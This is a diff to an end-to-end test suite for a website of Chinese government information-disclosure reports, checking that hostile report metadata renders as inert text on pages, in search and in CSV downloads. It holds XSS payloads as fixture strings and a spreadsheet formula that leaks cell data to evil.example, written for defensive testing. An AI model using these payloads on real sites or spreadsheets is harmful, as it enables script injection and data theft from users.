@@ -40,6 +40,8 @@ let browser: Browser;
 /** The two hostile reports as the converter wrote them. */
 let markup: Report;
 let json: Report;
+/** The JSON fixture's title line, which would close a script element and start another. */
+const JSON_TITLE_LINE = '-{"x":"</script><script>alert(1)</script>"}2017年政府信息公开工作年度报告';
 
 function run(command: string, args: string[]): void {
   execFileSync(command, args, { cwd: copy.root, stdio: "pipe", env: { ...process.env, ASTRO_TELEMETRY_DISABLED: "1" } });
@@ -165,8 +167,10 @@ describe("hostile metadata on every page that shows it", () => {
       status: "uncertain",
       raw: '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")<script>alert(12)</script>',
     });
-    expect(json.title).toBe('-{"x":"</script><script>alert(1)</script>"}2017年政府信息公开工作年度报告');
-    expect(json.jurisdiction).toMatchObject({ name: '-{"x":"</script><script>alert(1)</script>"}', resolved: false });
+    // The JSON-breaking fixture is seed 001 (中卫市 2017) under a hostile title line: read as a later
+    // version of that report, its title taken from the report's own words; the line stays in its source text.
+    expect(json.id).toBe("640500-2017");
+    expect(json.diagnostics.map((d) => d.code)).toContain("several_versions");
   });
 
   it("report pages: title, jurisdiction, publisher, contact, headings and the statistics row run nothing and read as text", async () => {
@@ -203,7 +207,7 @@ describe("hostile metadata on every page that shows it", () => {
   it("source pages show every hostile line as text", async () => {
     const lines = readFileSync(join(FIXTURES, MARKUP_FILE), "utf8").split("\n");
     await expectInert(`/reports/${markup.id}/source/`, [lines[2]!, lines[225]!.split("\t")[0]!, "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点此查看\")<script>alert(12)</script>"]);
-    await expectInert(`/reports/${json.id}/source/`, [json.jurisdiction.name]);
+    await expectInert(`/reports/${json.id}/source/`, [JSON_TITLE_LINE]);
   });
 
   it("lists, jurisdiction pages (with their charts' JSON), indicator pages, home and downloads run nothing", async () => {
@@ -211,8 +215,8 @@ describe("hostile metadata on every page that shows it", () => {
     await expectInert("/", []);
     await expectInert("/reports/", names);
     await expectInert("/jurisdictions/", names);
-    await expectInert(`/jurisdictions/${markup.jurisdiction.code}/`, [markup.jurisdiction.name, markup.title]);
-    await expectInert(`/jurisdictions/${json.jurisdiction.code}/`, [json.jurisdiction.name, json.title]);
+    await expectInert(`/jurisdictions/${markup.jurisdiction.id}/`, [markup.jurisdiction.name, markup.title]);
+    await expectInert(`/jurisdictions/${json.jurisdiction.id}/`, [json.jurisdiction.name, json.title]);
     const raw = markup.statistics.find((s) => s.indicator === "complaints_total")!.raw;
     await expectInert("/indicators/complaints_total/", [...names, `「${raw}」`]);
     await expectInert("/indicators/proactive_total/", names);
@@ -221,7 +225,7 @@ describe("hostile metadata on every page that shows it", () => {
 
   it("search with a query hitting both reports, its filters shown, runs nothing", async () => {
     // Waits for the status line any search UI prints, so this part holds whatever draws the results.
-    await expectInert(`/search/?q=alert`, [markup.title, json.title, markup.jurisdiction.name, json.jurisdiction.name], async (page) => {
+    await expectInert(`/search/?q=alert`, [markup.title, markup.jurisdiction.name], async (page) => {
       await page.waitForFunction(() => document.querySelector("main")?.textContent?.includes("份包含「alert」的年报"), undefined, { timeout: 15_000 });
       await page.waitForTimeout(500);
     });
@@ -239,17 +243,16 @@ describe("hostile metadata on every page that shows it", () => {
     await resultsShown(page);
     const titles = await page.locator(".search-result__title").allTextContents();
     expect(titles).toContain(markup.title);
-    expect(titles).toContain(json.title);
     const excerpts = await page.locator(".search-result__excerpt").allTextContents();
     // Pagefind writes < and > in excerpts as entities; they read back as the characters, never as markup.
-    expect(excerpts.some((text) => text.includes("onerror=alert("))).toBe(true);
-    expect(excerpts.some((text) => text.includes("（六）加强提案公开<img/src/onerror=alert(9)>"))).toBe(true);
+    expect(excerpts.some((text) => text.includes(JSON_TITLE_LINE)), JSON.stringify(excerpts)).toBe(true);
+    expect(excerpts.some((text) => text.includes("@SUM(1)</script><svg/onload=alert(1)>办公室")), JSON.stringify(excerpts)).toBe(true);
     const sections = await page.locator(".search-result__section-link").allTextContents();
-    expect(sections).toContain("一、概述</script>\u2028<script>alert(8)</script>");
+    // A snippet shows any white space (the U+2028 here) as one space.
+    expect(sections).toContain("一、概述</script> <script>alert(8)</script>");
     expect(sections).toContain("（六）加强提案公开<img/src/onerror=alert(9)>");
     const filterValues = await page.locator(".search-filter__value").allTextContents();
     expect(filterValues).toContain(markup.jurisdiction.name);
-    expect(filterValues).toContain(json.jurisdiction.name);
     // Filtering on the hostile jurisdiction keeps the page inert and finds its report.
     await page.getByRole("checkbox", { name: markup.jurisdiction.name }).first().check();
     await page.waitForFunction(() => document.querySelectorAll(".search-result").length === 1);
@@ -270,7 +273,7 @@ describe("Content-Security-Policy", () => {
     "/indicators/",
     "/indicators/complaints_total/",
     "/jurisdictions/",
-    `/jurisdictions/${json.jurisdiction.code}/`,
+    `/jurisdictions/${json.jurisdiction.id}/`,
     "/search/?q=alert",
     "/downloads/",
     "/about/",
@@ -380,9 +383,6 @@ describe("CSV downloads of the hostile reports", () => {
     const complaints = records.find((r) => r[header.indexOf("indicator_id")] === "complaints_total")!;
     expect(complaints[header.indexOf("raw_text")]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")<script>alert(12)</script>`);
     const wide = await csv("reports-wide-national-2008.csv");
-    const row = wide.records.find((r) => r[wide.header.indexOf("report_id")] === json.id)!;
-    expect(row[wide.header.indexOf("jurisdiction")]).toBe(`'${json.jurisdiction.name}`);
-    expect(row[wide.header.indexOf("title")]).toBe(`'${json.title}`);
     const markupRow = wide.records.find((r) => r[wide.header.indexOf("report_id")] === markup.id)!;
     expect(markupRow[wide.header.indexOf("publisher")]).toBe(`'${markup.publisher}`);
   });
